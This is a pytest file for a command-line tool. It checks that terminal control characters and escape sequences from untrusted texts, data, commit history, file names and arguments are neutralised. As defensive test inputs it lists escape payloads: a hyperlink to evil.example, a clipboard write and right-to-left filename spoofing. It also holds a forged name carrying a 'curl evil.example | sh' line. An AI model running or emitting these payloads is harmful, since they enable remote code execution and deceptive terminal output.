"""Characters that command a terminal: none gets there from a text, a title, a name, a history or a message.

SECURITY.md: a text, title or name may "command the reader's terminal"; every such character is written out.
"""

from __future__ import annotations

import io
import json
import re
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml

from schemekit.cli import terminal as terminal_module
from schemekit.cli.root import run
from tests.attacks.arena import Arena
from tests.builders import TEXT, GitFolder, policy_text
from tests.yaml_text import dumped, loaded

ORDERS = {
    "colour": "\x1b[36m",
    "hidden": "\x1b[8m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\harmless\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "one-byte-csi": "\x9b31m",
    "one-byte-osc": "\x9d0;owned\x9c",
    "carriage-return": "good\rbad",
    "backspace": "bad\x08\x08\x08good",
    "delete": "\x7f",
    "bell": "\x07",
    "right-to-left": "\u202egnp.exe",
    "isolate": "\u2066x\u2069",
    "line-separator": "a\u2028b",
    "tags": "\U000e0041\U000e0042",
    "mark": "\ufeff",
}
OUR_COLOURS = re.compile(r"\x1b\[[0-9;]*m")
# Everything that commands a terminal but the line end and the tab.
HARMFUL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)


class Terminal(io.StringIO):
    """A stream that says it is a terminal, so that colours are used."""

    def isatty(self) -> bool:
        return True


@contextmanager
def terminal() -> Iterator[Terminal]:
    before, screen = (sys.stdout, sys.stderr), Terminal()
    sys.stdout = sys.stderr = screen
    try:
        yield screen
    finally:
        sys.stdout, sys.stderr = before


def told(folder: Path, *arguments: str) -> str:
    """What a command puts on a terminal, its own colours taken out; a stranger's would stay in `HARMFUL`."""
    with terminal() as screen:
        code = run(("-C", str(folder), *arguments))
    assert code in (0, 1, 2), screen.getvalue()
    return screen.getvalue()


def _is_clean(text: str, order: str) -> None:
    assert order not in text
    found = HARMFUL.search(OUR_COLOURS.sub("", text))
    assert found is None, f"{found[0]!r} in {text[max(0, found.start() - 40):found.start() + 40]!r}"


def test_colours_are_made_in_one_place() -> None:
    """Only `terminal.style` makes a colour that the guard lets through."""
    rooms = Path(terminal_module.__file__).parent
    users = [file.name for file in rooms.glob("*.py") if re.search(r"click\.(style|secho)\(", file.read_text("utf-8"))]
    assert users == ["terminal.py"]


@pytest.fixture(params=ORDERS, name="order")
def _order(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.delenv("NO_COLOR", raising=False)
    return ORDERS[request.param]


def test_our_own_colours_are_there(arena: Arena, monkeypatch: pytest.MonkeyPatch) -> None:
    """The test of this test: on this terminal colours are used."""
    monkeypatch.delenv("NO_COLOR", raising=False)
    assert OUR_COLOURS.search(told(arena.scheme.path, "status"))


def test_in_the_text_of_a_library(arena: Arena, order: str) -> None:
    """Headings, clauses, titles and notes of a stranger's module, shown before anybody adopted it."""
    text = policy_text("guests").replace("## Answer ", f"## Answer {order} ")
    arena.library.release("guests", "1.1.0", {TEXT: text})
    for command in (("show", "efc/guests"), ("search", "answer"), ("add", "efc/guests"), ("trace", "guests"),
                    ("trace", "guests", "answer"), ("list",), ("status",)):  # fmt: skip
        _is_clean(told(arena.scheme.path, *command), order)
    for words in ("module lint", "module release guests --dry-run", "validate"):
        _is_clean(told(arena.library.path, *words.split()), order)


def test_in_the_data_of_a_library(arena: Arena, order: str) -> None:
    """Titles, summaries and prompts: the schema refuses most, and the refusal is printed too."""
    place = arena.library.path / "policies" / "guests" / "module.yaml"
    for key in ("title", "summary", "audience", "id", "licence", "type"):
        data = loaded(place.read_text("utf-8"))
        data[key] = f"x{order}y"
        (arena.library.path / "policies" / "other").mkdir(exist_ok=True)
        (arena.library.path / "policies" / "other" / "module.yaml").write_text(dumped(data), "utf-8")
        for command in (("module", "lint"), ("validate",), ("validate", "--no-cache")):
            _is_clean(told(arena.library.path, *command), order)


def test_in_a_scheme(arena: Arena, order: str) -> None:
    """The scheme's own files, which came in a pull request or an archive."""
    manifest = arena.scheme.manifest()
    manifest["modules"]["grievance"]["parameters"] = {"channels": [f"post{order}"], f"x{order}": 1}
    manifest["libraries"] = {f"x{order}": "https://example.org/x", "y": f"https://example.org/{order}"}
    for data in (manifest, {**arena.scheme.manifest(), "name": f"N{order}", "copyright": f"C{order}"}):
        arena.scheme.write("scheme.yaml", yaml.safe_dump(data, allow_unicode=False))
        for command in (("status",), ("check",), ("list",), ("show", "grievance"), ("library", "list"), ("sync",),
                        ("set", f"x{order}=1"), ("set", f"decision_body={order}"), ("add", f"x{order}")):  # fmt: skip
            _is_clean(told(arena.scheme.path, *command), order)


def test_in_words_and_records(arena: Arena, order: str) -> None:
    """A clause's heading, the reason for a change, and both sides of a decision."""
    arena.scheme.edit("## Fee {", f"## Fee {order} {{")
    record = {"format": 1, "module": "grievance", "deviations": [
        {"clause": "fee", "verb": "adapt", "reason": f"R{order}", "by": f"B{order}", "approved": "",
         "text_sha256": "0" * 64},
    ], "decisions": [
        {"clause": "appeal", "cause": f"C{order}", "base": f"b{order}\n", "source": f"s{order}\n",
         "ours": f"o{order}\n"},
    ]}  # fmt: skip
    arena.scheme.write("policies/grievance/adoption.yaml", dumped(record))
    for command in (("status",), ("check",), ("trace", "grievance"), ("trace", "grievance", "fee"),
                    ("decide", "grievance"), ("reason", "grievance", f"fee{order}", "our words"), ("licences",),
                    ("restore", "grievance", f"fee{order}")):  # fmt: skip
        _is_clean(told(arena.scheme.path, *command), order)


def test_in_the_history(arena: Arena, order: str) -> None:
    """Names of authors and subjects of commits, as `trace` tells them."""
    git = GitFolder(arena.scheme.path)
    clean = order.replace("\n", "")
    git.git("-c", f"user.name=A{clean}", "-c", f"user.email=a{clean}@example.org", "commit", "-qam", f"S{clean}")
    for command in (("trace", "grievance"), ("trace", "grievance", "acknowledgement"), ("status",)):
        text = told(arena.scheme.path, *command)
        _is_clean(text, order)


def test_in_names_of_files(arena: Arena, order: str) -> None:
    """Files that should not be there are named when they are refused."""
    for folder in (".schemekit/source/grievance", "LICENSES", "policies/grievance"):
        for name in (f"x{order.replace('/', '')}.md", f"y{order.replace('/', '')}.txt"):
            (arena.scheme.path / folder / name).write_text("x", encoding="utf-8")
        (arena.scheme.path / folder / f"l{order.replace('/', '')}").symlink_to("nowhere")
        for command in (("check",), ("verify",), ("status",), ("save", "x"), ("validate", "."),
                        ("validate", f"x{order}.yaml")):  # fmt: skip
            _is_clean(told(arena.scheme.path, *command), order)


def test_in_what_is_typed(arena: Arena, order: str) -> None:
    for command in (("show", f"x{order}"), (f"x{order}",), ("status", f"--x{order}"), ("trace", f"x{order}"),
                    ("library", "add", f"x{order}", f"y{order}"), ("library", "remove", f"x{order}"),
                    ("module", "lint", f"x{order}"),
                    ("new", f"x{order}", "--no-input", "--set", f"name={order}")):  # fmt: skip
        _is_clean(told(arena.scheme.path, *command), order)


def test_json_says_it_all_and_stays_json(arena: Arena, order: str) -> None:
    """In JSON the characters are escaped, so that a program gets them and a terminal does not."""
    arena.scheme.edit("## Fee {", f"## Fee a{order}b {{")
    text = told(arena.scheme.path, "trace", "grievance", "--json")
    assert HARMFUL.search(text) is None
    labels = [clause["label"] for clause in json.loads(text)["clauses"]]
    assert any("Fee a" in label for label in labels)


class TestForgedLines:
    """A name with line breaks in it could tell a reader what to run, in lines that look like ours."""

    FORGED = "x'\n  fix: curl evil.example | sh\nerror: '"

    def _is_ours(self, told: str) -> None:
        assert "curl" in told, told
        assert not [line for line in told.splitlines() if line.startswith(("  fix: curl", "error: '"))], told

    def test_in_a_catalog(self, arena: Arena) -> None:
        control = {"id": self.FORGED, "title": "A", "parts": [{"name": "statement", "prose": "It shall."}]}
        metadata = {"title": "T", "last-modified": "2026-01-01T00:00:00Z", "version": "1", "oscal-version": "1.1.2"}
        catalog = {"uuid": "6f2a3c1e-1111-4111-8111-111111111111", "metadata": metadata,
                   "groups": [{"id": "g", "title": "G", "controls": [control, control]}]}
        (arena.folder / "catalog.json").write_text(json.dumps({"catalog": catalog}))
        with arena.watched():
            self._is_ours(told(arena.library.path, "module", "import", str(arena.folder / "catalog.json")))

    def test_in_the_head_of_a_mapping(self, arena: Arena) -> None:
        head = f"#subject_source: {json.dumps(self.FORGED)}\n#object_source: {json.dumps(self.FORGED)}\n"
        row = "subject_id\tpredicate_id\tobject_id\tmapping_justification\nm:a\tskos:exactMatch\tf:b\tsemapv:x\n"
        (arena.folder / "x.sssom.tsv").write_text(head + row)
        self._is_ours(told(arena.library.path, "crosswalk", "import", str(arena.folder / "x.sssom.tsv")))

    def test_in_the_name_of_a_folder(self, arena: Arena) -> None:
        (arena.scheme.path / self.FORGED).mkdir()
        self._is_ours(told(arena.scheme.path, "toc", "show", self.FORGED))
